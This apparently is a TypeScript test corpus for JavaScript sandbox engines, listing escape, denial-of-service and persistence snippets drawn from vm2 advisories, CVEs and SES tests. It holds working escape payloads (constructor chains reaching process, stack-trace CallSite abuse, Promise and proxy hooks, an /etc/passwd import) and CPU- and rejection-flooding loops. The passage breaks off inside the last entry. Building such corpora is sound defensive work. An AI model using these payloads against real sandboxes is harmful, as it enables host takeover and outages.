/** The five engines the corpus runs against, and the confined spawn tier. */
export type CorpusEngine = "vm" | "worker" | "spawn" | "isolate" | "quickjs" | "spawn-confined";

/** Where a technique can end up: one engine, or the plugin host. */
export type CorpusTarget = CorpusEngine | "plugin";

/**
 * What a technique is after:
 * - `escape`: reach the host (process, require, fs, a host object) or read its secret;
 * - `dos`: exhaust CPU or memory, flood, or crash the host — the pass is "the host survives and
 *   the run fails with the right code";
 * - `persist`: outlive the run or change what the next run sees.
 */
export type TechniqueKind = "escape" | "dos" | "persist";

/**
 * What a DoS or persistence technique must end with on one target: `ok` (the run succeeds), or
 * the error codes it may fail with (engine codes `SANDBOX_*`, plugin-host codes `SAND_VM_*`).
 */
export type ExpectedOutcome = "ok" | readonly string[];

/** A gap the corpus records on purpose instead of skipping: what happens today, and why. */
export interface DeclaredGap {
  /** The outcome the run has today (asserted, so the day it changes the test says so). */
  readonly outcome: ExpectedOutcome;
  /** One line for the matrix and SECURITY.md, e.g. "ArrayBuffer memory is not counted". */
  readonly note: string;
}

/** One technique of the corpus: a guest snippet named after it, with the public source it comes from. */
export interface EscapeTechnique {
  /** kebab-case, named after the technique. */
  readonly name: string;
  /** Where the technique is described: an advisory, a paper, a test suite or a write-up. */
  readonly source: string;
  readonly kind: TechniqueKind;
  /**
   * The body of an async function, run after the prelude (`pwn`, `attempt`, `hostValues`,
   * `SECRET_NAME`, `CANARY`). What it returns is the run's result.
   */
  readonly code: string;
  /** Runs only where host tools exist (the facade and tools columns, and the plugin host). */
  readonly needsTools?: true;
  /**
   * Run in a throw-away host process (memory bombs): if a bomb takes its host down, the test
   * sees the process die instead of dying with it.
   */
  readonly isolatedHost?: true;
  /** A shorter wall-clock limit for this technique, in ms (DoS cases). */
  readonly timeoutMs?: number;
  /** DoS/persist: the outcome each target must end with (every target not listed: any failure). */
  readonly expect?: Partial<Record<CorpusTarget, ExpectedOutcome>>;
  /** Gaps declared per target: asserted as they are today and printed as such in the matrix. */
  readonly declared?: Partial<Record<CorpusTarget, DeclaredGap>>;
}

const TIMEOUT = ["SANDBOX_TIMEOUT"] as const;
const PLUGIN_TIMEOUT = ["SAND_VM_TIMEOUT"] as const;
/** A promise chain that never ends also grows the heap: either limit may end it first. */
const TIMEOUT_OR_MEMORY = ["SANDBOX_TIMEOUT", "SANDBOX_MEMORY_EXCEEDED"] as const;
const SANDDRILLER =
  "SandDriller (AlHamdan & Staicu, USENIX Security 2025, 'SandDriller: A Fully-Automated Approach for Testing Language-Based JavaScript Sandboxes')";

/**
 * The corpus. Escape snippets return what they reached through `pwn`/`attempt` ("no process",
 * "threw EvalError" …); the host decides from what it sees (secret, canary, "REACHED_PROCESS",
 * host prototypes), never from the snippet's own claim.
 */
export const ESCAPE_TECHNIQUES: readonly EscapeTechnique[] = [
  // ── Constructor chains (vm2 docs/ATTACKS.md, category 1) ─────────────────────────────
  {
    name: "global-this-constructor-chain",
    source:
      "Node.js docs, 'vm: not a security mechanism'; vm2 issue #32 'Escaping the vm sandbox'; vm2 docs/ATTACKS.md category 1",
    kind: "escape",
    code: `return attempt(() => this.constructor.constructor("return process")());`,
  },
  {
    name: "object-literal-constructor-chain",
    source: "endo packages/ses/test/confinement.test.js 'confinement evaluation constructor'",
    kind: "escape",
    code: `return [attempt(() => ({}).constructor.constructor("return process")()), attempt(() => [].constructor.constructor("return process")())];`,
  },
  {
    name: "host-value-constructor-chain",
    source:
      "vm2 issue #32 (a host error caught in the sandbox: e.constructor.constructor); vm2 docs/ATTACKS.md category 1 'Via an error object in catch'",
    kind: "escape",
    code: `const out = [];
for (const v of await hostValues()) out.push(attempt(() => v.constructor.constructor("return process")()));
return out;`,
  },
  {
    name: "function-prototype-constructor",
    source: "endo packages/ses/test/confinement.test.js ('Error.__proto__.constructor(\"return this\")()')",
    kind: "escape",
    code: `return [attempt(() => Error.__proto__.constructor("return process")()), attempt(() => Object.getPrototypeOf(console.log).constructor("return process")())];`,
  },
  {
    name: "async-function-constructor",
    source: "vm2 test/vm.js 'AsyncFunction constructor extraction and code execution'",
    kind: "escape",
    code: `try { return pwn(await (async () => {}).constructor("return process")()); } catch (e) { return "threw " + e.name; }`,
  },
  {
    name: "generator-function-constructor",
    source: "vm2 test/vm.js 'GeneratorFunction constructor extraction and code execution'",
    kind: "escape",
    code: `return [
  attempt(() => Object.getPrototypeOf(function* () {}).constructor("return process")().next().value),
  attempt(() => Object.getPrototypeOf(async function* () {}).constructor("yield process")),
];`,
  },
  {
    name: "indirect-eval",
    source:
      "endo packages/ses/test/confinement.test.js 'confinement evaluation eval' ((0, eval), aliased eval)",
    kind: "escape",
    code: `const evil = eval;
return [attempt(() => (0, eval)("process")), attempt(() => evil("this.process")), attempt(() => globalThis.eval?.("process"))];`,
  },
  {
    name: "reflect-construct-function",
    source:
      "vm2 test/vm.js 'Reflect.construct Promise species bypass attack' (constructors reached through Reflect)",
    kind: "escape",
    code: `const F = Reflect.getPrototypeOf(function () {}).constructor;
return [attempt(() => Reflect.construct(F, ["return process"])()), attempt(() => Reflect.apply(F, null, ["return process"])())];`,
  },
  {
    name: "string-timer-callback",
    source: "vm2 test/vm.js 'timers' (setTimeout with a code string); WHATWG timers evaluate strings",
    kind: "escape",
    code: `if (typeof setTimeout !== "function") return "no timers";
try { setTimeout("globalThis.leak = process", 0); } catch (e) { return "threw " + e.name; }
await new Promise((done) => setTimeout(done, 5));
return pwn(globalThis.leak);`,
  },
  // ── Stack traces and errors (vm2 categories 4, 19) ───────────────────────────────────
  {
    name: "prepare-stack-trace-callsite-get-this",
    source: "CVE-2022-36067 'SandBreak' (Oxeye); gf3/sandbox issue #65; vm2 issue #515",
    kind: "escape",
    code: `const seen = [];
try { Error.prepareStackTrace = (e, sites) => sites.map((s) => { try { return s.getThis(); } catch { return undefined; } }); } catch (e) { seen.push("refused " + e.name); }
const frames = new Error("x").stack;
if (Array.isArray(frames)) for (const f of frames) seen.push(pwn(f) === "no process" ? attempt(() => f.process) : pwn(f));
else seen.push(typeof frames);
return seen;`,
  },
  {
    name: "prepare-stack-trace-callsite-get-function",
    source:
      "vm2 docs/ATTACKS.md category 4 (CallSite getFunction / getThis); Bun PR #29998 (host-realm CallSites in node:vm)",
    kind: "escape",
    code: `const seen = [];
try { Error.prepareStackTrace = (e, sites) => sites; } catch (e) { seen.push("refused " + e.name); }
let sites;
try { Object.defineProperty(Error, "prepareStackTrace", { value: (e, s) => s, configurable: true, writable: true }); } catch (e) { seen.push("define refused " + e.name); }
sites = new Error("x").stack;
if (Array.isArray(sites)) for (const s of sites) { seen.push(attempt(() => s.getFunction().constructor("return process")())); seen.push(attempt(() => sites.constructor.constructor("return process")())); }
else seen.push(typeof sites);
return seen;`,
  },
  {
    name: "global-error-swap-prepare-stack-trace",
    source: "vm2 issue #515 (CVE-2022-36067 used the object reachable as globalThis.Error, not Error itself)",
    kind: "escape",
    code: `const seen = [];
try { globalThis.Error = { prepareStackTrace: (e, sites) => sites }; } catch (e) { seen.push("swap refused " + e.name); }
try { const stack = new RangeError("x").stack; seen.push(Array.isArray(stack) ? stack.map((s) => attempt(() => s.getThis())) : typeof stack); } catch (e) { seen.push("threw " + e.name); }
return seen;`,
  },
  {
    name: "weakmap-set-override-stack-trace",
    source: "vm2 issue #444 (WeakMap.prototype.set override + prepareStackTrace getThis)",
    kind: "escape",
    code: `const { set } = WeakMap.prototype;
WeakMap.prototype.set = function (k, v) { return set.call(this, k, k); };
try { Error.prepareStackTrace = (_, c) => c.map((s) => s.getThis()).find((a) => a); } catch {}
let found;
try { found = new Error().stack; } catch (e) { return "threw " + e.name; }
try { Error.prepareStackTrace = undefined; } catch {}
return [pwn(found), attempt(() => found.process)];`,
  },
  {
    name: "error-name-symbol-host-type-error",
    source:
      "vm2 docs/ATTACKS.md 'The Error Generation Primitive' (e.name = Symbol(); e.stack); vm2 issue #562; GHSA-v27g-jcqj-v8rw",
    kind: "escape",
    code: `const out = [];
for (const ctor of [Error, TypeError, RangeError]) {
  const e = new ctor("x");
  try { e.name = Symbol("s"); } catch {}
  try { out.push(typeof e.stack); } catch (err) { out.push(attempt(() => err.constructor.constructor("return process")())); }
  try { out.push(String(e)); } catch (err) { out.push(attempt(() => err.constructor.constructor("return process")())); }
}
return out;`,
  },
  {
    name: "stack-overflow-host-range-error",
    source:
      "vm2 issue #199 'Breakout in v3.6.11' (Maximum call stack size exceeded raised in host code); " +
      SANDDRILLER,
    kind: "escape",
    code: `const out = [];
const calls = [() => console.log("edge"), () => typeof setTimeout === "function" && setTimeout(() => {}, 1), () => JSON.stringify({ a: 1 }), () => new Error("x").stack];
function dive(n) {
  try { dive(n + 1); } catch (e) {
    for (const call of calls) { try { call(); } catch (err) { if (!(err instanceof Error)) out.push(attempt(() => err.constructor.constructor("return process")())); } }
  }
}
dive(0);
return out.length === 0 ? "no foreign error" : out;`,
  },
  {
    name: "aggregate-error-host-rejections",
    source: "vm2 GHSA-55hx-c926-fr95 (AggregateError.errors[] from Promise.any carrying host errors)",
    kind: "escape",
    code: `const sources = [Promise.reject(new Error("a"))];
if (typeof tools === "object") sources.push(tools.fail({}), tools.echo("bad input"));
try { await Promise.any(sources); return "resolved"; } catch (e) {
  return (e.errors || []).map((x) => attempt(() => x.constructor.constructor("return process")()));
}`,
  },
  {
    name: "suppressed-error-disposable-stack",
    source: "vm2 docs/ATTACKS.md category 16 'SuppressedError via Explicit Resource Management'",
    kind: "escape",
    code: `if (typeof DisposableStack !== "function") return "no DisposableStack";
const stack = new DisposableStack();
stack.defer(() => { null.x; });
stack.defer(() => { throw new Error("first"); });
try { stack.dispose(); return "disposed"; } catch (e) {
  return [e, e.error, e.suppressed].map((x) => attempt(() => x.constructor.constructor("return process")()));
}`,
  },
  // ── Callers (vm2 category 5) ─────────────────────────────────────────────────────────
  {
    name: "function-caller-from-callbacks",
    source: "vm2 docs/ATTACKS.md category 5 'Function Caller/Callee Access'; " + SANDDRILLER,
    kind: "escape",
    code: `const callers = [];
function grab() { callers.push(grab.caller); }
function grabArgs() { callers.push(arguments.callee.caller); }
if (typeof setTimeout === "function") await new Promise((done) => setTimeout(function t() { grab(); callers.push(t.caller); done(); }, 1));
if (typeof queueMicrotask === "function") await new Promise((done) => queueMicrotask(function m() { callers.push(m.caller); done(); }));
await Promise.resolve().then(function r() { callers.push(r.caller); grabArgs(); });
await { then: function th(resolve) { callers.push(th.caller); resolve(); } };
[3, 1, 2].sort(function cmp(a, b) { callers.push(cmp.caller); return a - b; });
console.log({ toString: function ts() { callers.push(ts.caller); return "x"; } } + "");
return callers.map((c) => c === null || c === undefined ? "null" : attempt(() => c.constructor("return process")()));`,
  },
  {
    name: "caller-chain-walk",
    source: "vm2 docs/ATTACKS.md category 5 (walking .caller up to a host frame)",
    kind: "escape",
    code: `const found = [];
function climb() { let f = climb; for (let i = 0; i < 20 && f; i++) { try { f = f.caller; } catch (e) { found.push("threw " + e.name); break; } if (f) found.push(attempt(() => f.constructor("return process")())); } }
climb();
if (typeof setTimeout === "function") await new Promise((done) => setTimeout(() => { climb(); done(); }, 1));
await Promise.resolve().then(climb);
return found.length === 0 ? "no callers" : found;`,
  },
  // ── Promises (vm2 category 7) ───────────────────────────────────────────────────────
  {
    name: "promise-then-override",
    source: "CVE-2023-29017 (vm2 GHSA-7jxr-cg7f-gpgv: host errors through Promise callbacks)",
    kind: "escape",
    code: `const seen = [];
const then = Promise.prototype.then;
Promise.prototype.then = function (ok, fail) {
  return then.call(this, (v) => { seen.push(attempt(() => v.constructor.constructor("return process")())); return ok ? ok(v) : v; }, (e) => { seen.push(attempt(() => e.constructor.constructor("return process")())); if (fail) return fail(e); throw e; });
};
try { await import("node:fs"); } catch {}
for (const v of await hostValues()) { if (v && typeof v.then === "function") { try { await v; } catch {} } }
Promise.prototype.then = then;
return seen.length === 0 ? "no callbacks" : seen;`,
  },
  {
    name: "async-function-global-promise-catch",
    source:
      "CVE-2026-22709 (vm2: async functions return the global Promise, whose then/catch were not sanitised)",
    kind: "escape",
    code: `const f = async () => { null.x; };
const out = [];
await f().catch((e) => out.push(attempt(() => e.constructor.constructor("return process")())));
if (typeof tools === "object") await (async () => tools.fail({}))().catch((e) => out.push(attempt(() => e.constructor.constructor("return process")())));
return out;`,
  },
  {
    name: "promise-species-capture",
    source:
      "CVE-2023-37466 (vm2 GHSA-cchq-frgv-rjh5, Promise[Symbol.species]); vm2 test/vm.js '[Symbol.species] attack'",
    kind: "escape",
    code: `const seen = [];
class Spy extends Promise {
  constructor(executor) { super((res, rej) => executor((v) => { seen.push(attempt(() => v.constructor.constructor("return process")())); res(v); }, (e) => { seen.push(attempt(() => e.constructor.constructor("return process")())); rej(e); })); }
  static get [Symbol.species]() { return Spy; }
}
try { Object.defineProperty(Promise, Symbol.species, { get: () => Spy, configurable: true }); } catch (e) { seen.push("species refused " + e.name); }
try { Promise.prototype.constructor = Spy; } catch (e) { seen.push("constructor refused " + e.name); }
for (const v of await hostValues()) { if (v && typeof v.then === "function") { try { await v.then((x) => x); } catch {} } }
try { await Spy.reject(new Error("x")).catch(() => 1); } catch {}
return seen;`,
  },
  {
    name: "thenable-result-resolvers",
    source: "vm2 docs/ATTACKS.md category 7 (PromiseResolveThenableJob hands host resolvers to guest then())",
    kind: "escape",
    code: `return { then(resolve, reject) { resolve([attempt(() => resolve.constructor("return process")()), attempt(() => reject.constructor("return process")())]); } };`,
  },
  // ── Host code touching guest values (vm2 categories 2, 6, 8, 9, 10) ───────────────────
  {
    name: "proxy-result-trap-arguments",
    source: "vm2 docs/ATTACKS.md category 6 'Proxy Trap Exploitation'; " + SANDDRILLER,
    kind: "escape",
    code: `const seen = [];
const grab = (...args) => { for (const a of args) if (a !== null && (typeof a === "object" || typeof a === "function")) seen.push(attempt(() => a.constructor.constructor("return process")())); };
const handler = {};
for (const trap of ["get", "has", "ownKeys", "getOwnPropertyDescriptor", "getPrototypeOf", "apply", "construct", "defineProperty", "set"]) handler[trap] = (...args) => { grab(...args); return Reflect[trap](...args); };
const trapped = new Proxy({ x: 1, list: [1, 2] }, handler);
console.log(trapped);
return { trapped, get seen() { return seen; } };`,
  },
  {
    name: "result-getter-caller",
    source: "vm2 docs/ATTACKS.md category 5 (a getter run by host code reads its caller); " + SANDDRILLER,
    kind: "escape",
    code: `return Object.defineProperty({}, "probe", { enumerable: true, get: function probe() { const c = probe.caller; return c === null ? "null" : attempt(() => c.constructor("return process")()); } });`,
  },
  {
    name: "object-prototype-accessor-trap",
    source:
      "vm2 docs/ATTACKS.md category 2 (Object.defineProperty(Object.prototype, 'get', …) intercepts descriptor reads); vm2 test/vm.js 'proxy trap via Object.prototype attack'",
    kind: "escape",
    code: `const seen = [];
for (const key of ["get", "set", "value", "then", "toJSON", "message", "stack", "cause"]) {
  try { Object.defineProperty(Object.prototype, key, { configurable: true, get() { const c = arguments.callee.caller; if (c) seen.push(attempt(() => c.constructor("return process")())); seen.push(attempt(() => this.constructor.constructor("return process")())); return undefined; } }); } catch (e) { seen.push("refused " + e.name); }
}
console.log({ a: 1 }, new Error("x"));
try { JSON.stringify({ a: 1 }); } catch {}
if (typeof tools === "object") { try { await tools.echo({ value: 1 }); } catch {} }
for (const key of ["get", "set", "value", "then", "toJSON", "message", "stack", "cause"]) delete Object.prototype[key];
return [...new Set(seen)];`,
  },
  {
    name: "array-species-self-return",
    source:
      "vm2 issue #562 / PR #563 (ArraySpeciesCreate reads attacker 'constructor'); vm2 GHSA-grj5-jjm8-h35p",
    kind: "escape",
    code: `const seen = [];
class Grab extends Array { constructor(...args) { super(...args); seen.push("species called"); } static get [Symbol.species]() { return Grab; } }
const values = await hostValues();
for (const v of values) { if (Array.isArray(v)) { try { v.constructor = Grab; v.map((x) => x); } catch (e) { seen.push("threw " + e.name); } } }
try { Object.defineProperty(Array, Symbol.species, { get() { seen.push(attempt(() => this.constructor("return process")())); return Array; }, configurable: true }); } catch (e) { seen.push("refused " + e.name); }
console.log([1, [2]], [3].map((x) => x));
return seen;`,
  },
  {
    name: "symbol-for-inspect-custom",
    source: "CVE-2023-37903 (vm2 GHSA-g644-9gfx-q4q4: a custom inspect function called by host util.inspect)",
    kind: "escape",
    code: `const seen = [];
const evil = { [Symbol.for("nodejs.util.inspect.custom")](depth, options, inspect) {
  for (const v of [options, inspect, options && options.stylize]) if (v) seen.push(attempt(() => v.constructor.constructor("return process")()));
  return "custom";
} };
console.log(evil);
console.log("%o %O %s", evil, evil, evil);
try { new Error("x", { cause: evil }).stack; } catch {}
return { evil: "logged", seen };`,
  },
  {
    name: "inspect-show-proxy-handler",
    source: "CVE-2023-32313 (vm2 GHSA-p5gc-c584-jj6v: util.inspect showProxy exposes a proxy's handler)",
    kind: "escape",
    code: `const seen = [];
const p = new Proxy(function target() {}, { get(t, k, r) { if (r !== p) seen.push(attempt(() => r.constructor.constructor("return process")())); return Reflect.get(t, k, r); }, getPrototypeOf(t) { const c = arguments.callee.caller; if (c) seen.push(attempt(() => c.constructor("return process")())); return Reflect.getPrototypeOf(t); } });
console.log(p, [p], { p });
console.error("%O", p);
return seen;`,
  },
  {
    name: "to-json-and-to-primitive-receivers",
    source:
      "vm2 docs/ATTACKS.md category 10 'Built-in Function Exploitation' (host code calling guest toJSON/toString/Symbol.toPrimitive)",
    kind: "escape",
    code: `const seen = [];
const hook = function (...args) { for (const a of [this, ...args]) if (a !== null && typeof a === "object") seen.push(attempt(() => a.constructor.constructor("return process")())); const c = arguments.callee.caller; if (c) seen.push(attempt(() => c.constructor("return process")())); return "x"; };
const evil = { toJSON: hook, toString: hook, valueOf: hook, [Symbol.toPrimitive]: hook };
console.log("%s %d %i %f %j", evil, evil, evil, evil, evil);
console.log(String(evil), \`\${evil}\`);
return { nested: { toString: hook }, seen };`,
  },
  {
    name: "symbol-has-instance-hook",
    source: "vm2 test/vm.js 'Symbol.hasInstance attack'",
    kind: "escape",
    code: `const seen = [];
for (const C of [Error, Object, Array, Promise, Function]) {
  try { Object.defineProperty(C, Symbol.hasInstance, { configurable: true, value(v) { if (v !== null && typeof v === "object") seen.push(attempt(() => v.constructor.constructor("return process")())); return false; } }); } catch (e) { seen.push("refused " + e.name); }
}
console.log(new Error("x"), [1], {});
try { null.x; } catch {}
if (typeof tools === "object") { try { await tools.fail({}); } catch {} }
return [...new Set(seen)];`,
  },
  {
    name: "poisoned-intrinsics-capture",
    source:
      "vm2 docs/ATTACKS.md category 11 'Monkey-Patching Bridge Internals'; endo packages/ses/src/commons.js (why hosts capture intrinsics)",
    kind: "escape",
    code: `const seen = [];
const apply = Reflect.apply;
const spy = (owner, key) => { const original = owner[key]; try { Object.defineProperty(owner, key, { configurable: true, writable: true, value: function (...args) {
  for (const a of [this, ...args]) if (a !== null && (typeof a === "object" || typeof a === "function") && a !== globalThis) { try { if (a.constructor && a.constructor.constructor !== Function && a.constructor !== Function) seen.push(attempt(() => a.constructor.constructor("return process")())); } catch {} }
  return apply(original, this, args); } }); } catch {} };
for (const k of ["call", "apply", "bind", "toString"]) spy(Function.prototype, k);
for (const k of ["push", "join", "map", "slice", "forEach"]) spy(Array.prototype, k);
for (const k of ["keys", "defineProperty", "getOwnPropertyDescriptor", "getPrototypeOf", "entries"]) spy(Object, k);
for (const k of ["then", "catch"]) spy(Promise.prototype, k);
spy(JSON, "stringify");
console.log({ a: [1] }, "%s", "x");
if (typeof setTimeout === "function") { clearTimeout(setTimeout(() => {}, 1000)); }
if (typeof tools === "object") { try { await tools.echo({ value: [1, { b: 2 }] }); } catch {} }
return { list: [1, 2], map: new Map([[1, 2]]), seen };`,
  },
  {
    name: "lookup-getter-proto-walk",
    source:
      "vm2 test/vm.js '__lookupGetter__ / __lookupSetter__ attack'; vm2 GHSA-47x8-96vw-5wg6 (__lookupGetter__('__proto__') walk to host prototypes)",
    kind: "escape",
    code: `const getProto = ({}).__lookupGetter__("__proto__");
const out = [];
for (const v of await hostValues()) {
  let node = v;
  for (let i = 0; i < 8 && node; i++) {
    try { node = getProto.call(node); } catch (e) { out.push("threw " + e.name); break; }
    if (node && node !== Object.prototype && Object.getPrototypeOf(node) === null && node !== Object.prototype) out.push("foreign root");
    if (node && typeof node.constructor === "function" && node.constructor.constructor !== Function) out.push(attempt(() => node.constructor.constructor("return process")()));
  }
}
return out.length === 0 ? "all chains end in this realm" : [...new Set(out)];`,
  },
  {
    name: "property-descriptor-extraction",
    source:
      "vm2 test/vm.js 'getOwnPropertyDescriptors (plural) Function extraction attack'; vm2 docs/ATTACKS.md category 15",
    kind: "escape",
    code: `const out = [];
for (const v of await hostValues()) {
  if (v === null || (typeof v !== "object" && typeof v !== "function")) continue;
  let descriptors;
  try { descriptors = Object.getOwnPropertyDescriptors(v); } catch (e) { out.push("threw " + e.name); continue; }
  for (const d of Object.values(descriptors)) for (const f of [d.value, d.get, d.set]) {
    if (typeof f === "function" && f.constructor !== Function && Object.getPrototypeOf(f) !== Function.prototype) out.push(attempt(() => f.constructor("return process")()));
  }
}
return out.length === 0 ? "no foreign functions" : out;`,
  },
  {
    name: "reachable-graph-foreign-function",
    source:
      "isolated-vm README ('a leaked Reference or Callback is usually enough for full control'); IsolateEngine's object-graph walk (packages/sandbox-isolate/test/escapes.test.ts)",
    kind: "escape",
    code: `const seen = new Set();
const queue = [globalThis, ...(await hostValues())];
const foreign = [];
const realmFunctions = new Set([Function, Object.getPrototypeOf(async function () {}).constructor, Object.getPrototypeOf(function* () {}).constructor, Object.getPrototypeOf(async function* () {}).constructor]);
while (queue.length > 0 && seen.size < 20000) {
  const node = queue.pop();
  if (node === null || (typeof node !== "object" && typeof node !== "function") || seen.has(node)) continue;
  seen.add(node);
  let proto;
  try { proto = Object.getPrototypeOf(node); } catch { continue; }
  queue.push(proto);
  if (typeof node === "function") { let c; try { c = node.constructor; } catch {} if (typeof c === "function" && !realmFunctions.has(c)) foreign.push(attempt(() => c("return process")())); }
  let keys = [];
  try { keys = Reflect.ownKeys(node); } catch {}
  for (const key of keys) { let d; try { d = Object.getOwnPropertyDescriptor(node, key); } catch { continue; } if (d) queue.push(d.value, d.get, d.set); }
}
return { visited: seen.size > 100, foreign };`,
  },
  // ── Transformer and module evasion (vm2 categories 12, 13, 27) ────────────────────────
  {
    name: "computed-key-constructor",
    source:
      "vm2 GHSA-2cm2-m3w5-gp2f (computed property access where a static filter looks for identifiers); CodeTransformer docs (obj[key] with a run-time key)",
    kind: "escape",
    code: `const k = ["constr", "uctor"].join("");
const p = ["pro", "cess"].join("");
return [attempt(() => ({})[k][k]("return " + p)()), attempt(() => Reflect.get(Reflect.get(console.log, k), k)("return " + p)())];`,
  },
  {
    name: "unicode-escape-identifiers",
    source: "vm2 GHSA-wp5r-2gw5-m7q7 and its unicode-escape follow-up (identifiers written as \\u escapes)",
    kind: "escape",
    code: `return [attempt(() => ({}).\\u0063onstructor.\\u0063onstructor("return \\u0070rocess")()), attempt(() => typeof \\u0070rocess === "undefined" ? undefined : \\u0070rocess)];`,
  },
  {
    name: "with-statement-scope-proxy",
    source: "endo packages/ses/test/confinement.test.js 'Symbol.unscopables with-statement escape'",
    kind: "escape",
    code: `const scope = new Proxy({}, { has: (t, k) => k !== "pwn" && k !== "attempt", get: (t, k) => k === Symbol.unscopables ? undefined : globalThis[k] });
try { return Function("s", "with (s) { return process; }")(scope); } catch (e) { return "threw " + e.name; }`,
  },
  {
    name: "dynamic-import",
    source:
      "vm2 docs/ATTACKS.md category 13 'Dynamic Import and Module Loading'; Bun PR #29959 (the import() rejection built in the host realm)",
    kind: "escape",
    code: `const out = [];
for (const spec of ["node:fs", "fs", "data:text/javascript,export default 1", "file:///etc/passwd"]) {
  try { const m = await import(spec); out.push("loaded " + typeof m); } catch (e) { out.push(attempt(() => e.constructor.constructor("return process")())); }
}
return out;`,
  },
  {
    name: "internal-state-probe",
    source:
      "vm2 GHSA-2cm2-m3w5-gp2f 'Internal State Probe via Computed Property Access on globalThis'; vm2 GHSA-wp5r-2gw5-m7q7",
    kind: "escape",
    code: `const out = [];
for (const key of Reflect.ownKeys(globalThis)) {
  const label = typeof key === "symbol" ? key.toString() : key;
  if (/suaveplan|kernel|host|bridge|ivm|payload|internal|port|binding|\\$/i.test(label)) {
    out.push(label);
    const v = Reflect.get(globalThis, key);
    if (typeof v === "function") { try { out.push(pwn(v("return process"))); } catch (e) { out.push("threw " + e.name); } }
  }
}
return out;`,
  },
  {
    name: "wasm-compile-and-js-tag",
    source: "vm2 docs/ATTACKS.md category 17 'WebAssembly JSTag Exception Catch'",
    kind: "escape",
    code: `if (typeof WebAssembly !== "object") return "no WebAssembly";
const out = [typeof WebAssembly.JSTag];
try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out.push("compiled"); } catch (e) { out.push(attempt(() => e.constructor.constructor("return process")())); }
return out;`,
  },
  {
    name: "host-global-names",
    source:
      "Node.js docs 'vm: not a security mechanism' (a context sees what it is given); vm2 README (NodeVM require/process exposure)",
    kind: "escape",
    code: `const names = ["process", "require", "module", "Buffer", "global", "__dirname", "parentPort", "workerData", "Deno", "Bun"];
const out = [];
for (const name of names) { try { const v = Function.prototype.call.call(Object.getOwnPropertyDescriptor.bind(Object), null, globalThis, name); if (v) out.push(name + ": " + pwn(v.value)); } catch (e) { out.push(name + " threw " + e.name); } }
try { out.push(pwn(process)); } catch (e) { out.push("process: " + e.name); }
try { out.push(pwn(require("node:process"))); } catch (e) { out.push("require: " + e.name); }
return out;`,
  },
  // ── Tools: attacks through a tool's arguments, result or error ────────────────────────
  {
    name: "tool-argument-getters-and-proxies",
    source: SANDDRILLER + " (host code driving guest objects); vm2 docs/ATTACKS.md category 6",
    kind: "escape",
    needsTools: true,
    code: `const seen = [];
const trap = (...args) => { for (const a of args) if (a !== null && (typeof a === "object" || typeof a === "function")) seen.push(attempt(() => a.constructor.constructor("return process")())); };
const getter = { get value() { const c = arguments.callee.caller; if (c) seen.push(attempt(() => c.constructor("return process")())); return 1; } };
const proxy = new Proxy({ value: 1 }, { get(t, k, r) { trap(t, r); return Reflect.get(t, k, r); }, ownKeys(t) { trap(t); return Reflect.ownKeys(t); } });
const thenable = { value: { then(resolve) { trap(resolve); resolve(1); } } };
const json = { value: { toJSON(key) { trap(this); return "forged"; } } };
for (const input of [getter, proxy, thenable, json]) { try { seen.push(JSON.stringify(await tools.echo(input))); } catch (e) { seen.push(attempt(() => e.constructor.constructor("return process")())); } }
return seen;`,
  },
  {
    name: "tool-argument-prototype-pollution",
    source:
      "vm2 docs/ATTACKS.md category 20 'Host Intrinsic Prototype Pollution'; CWE-1321 __proto__ keys in JSON",
    kind: "escape",
    needsTools: true,
    code: `const out = [];
for (const input of [JSON.parse('{"value": 1, "__proto__": {"polluted": "yes"}}'), { value: JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}') }, JSON.parse('{"value": {"__proto__": {"polluted": "yes"}}}')]) {
  try { out.push(await tools.echo(input)); } catch (e) { out.push("threw " + e.name); }
}
return [out.length, ({}).polluted === undefined];`,
  },
  {
    name: "tool-result-and-error-climb",
    source:
      "vm2 issue #32 (host error thrown into the sandbox); CVE-2023-29017 (host errors through async results)",
    kind: "escape",
    needsTools: true,
    code: `const out = [];
const r = await tools.hostValues({});
for (const v of Object.values(r)) out.push(attempt(() => v.constructor.constructor("return process")()));
try { await tools.fail({}); } catch (e) { out.push(attempt(() => e.constructor.constructor("return process")()), typeof e.stack === "string" && e.stack.includes(".ts:") ? "HOST_STACK" : "guest stack"); }
return out;`,
  },
  // ── Denial of service: the host survives, the run fails with the right code ────────────
  {
    name: "sync-infinite-loop",
    source: "Node.js docs 'vm: timeout' (synchronous code blocks the event loop); vm2 test/vm.js 'timeout'",
    kind: "dos",
    timeoutMs: 300,
    code: `while (true) {}`,
    expect: {
      vm: TIMEOUT,
      worker: TIMEOUT,
      spawn: TIMEOUT,
      isolate: TIMEOUT,
      quickjs: TIMEOUT,
      plugin: PLUGIN_TIMEOUT,
    },
  },
  {
    name: "microtask-loop",
    source: "Node.js docs 'vm: Timeout interactions with asynchronous tasks and Promises' (microtaskMode)",
    kind: "dos",
    timeoutMs: 300,
    code: `const spin = () => Promise.resolve().then(spin); spin(); await new Promise(() => {});`,
    expect: {
      vm: TIMEOUT_OR_MEMORY,
      worker: TIMEOUT_OR_MEMORY,
      spawn: TIMEOUT_OR_MEMORY,
      isolate: TIMEOUT_OR_MEMORY,
      quickjs: TIMEOUT_OR_MEMORY,
      plugin: ["SAND_VM_TIMEOUT", "SAND_VM_MEMORY_EXCEEDED"],
    },
  },
  {
    name: "never-settling-promise",
    source: "Node.js docs 'vm: Timeout interactions with asynchronous tasks and Promises'",
    kind: "dos",
    timeoutMs: 300,
    code: `await new Promise(() => {});`,
    expect: {
      vm: TIMEOUT,
      worker: TIMEOUT,
      spawn: TIMEOUT,
      isolate: TIMEOUT,
      quickjs: TIMEOUT,
      plugin: PLUGIN_TIMEOUT,
    },
  },
  {
    name: "deep-recursion",
    source: "vm2 issue #199 (stack exhaustion); " + SANDDRILLER,
    kind: "dos",
    code: `const r = (n) => r(n + 1) + 1; return r(0);`,
    expect: {
      vm: ["SANDBOX_GUEST_ERROR"],
      worker: ["SANDBOX_GUEST_ERROR"],
      spawn: ["SANDBOX_GUEST_ERROR"],
      isolate: ["SANDBOX_GUEST_ERROR"],
      quickjs: ["SANDBOX_GUEST_ERROR"],
      plugin: ["SAND_VM_PLUGIN_THREW"],
    },
  },
  {
    name: "unhandled-rejections",
    source:
      "vm2 docs/ATTACKS.md category 22 'Promise Executor Unhandled Rejection — Host Process DoS' (GHSA-hw58-p9xv-2mjh)",
    kind: "dos",
    code: `for (let i = 0; i < 1000; i++) Promise.reject(new Error("unhandled " + i));
new Promise(() => { throw new Error("executor"); });
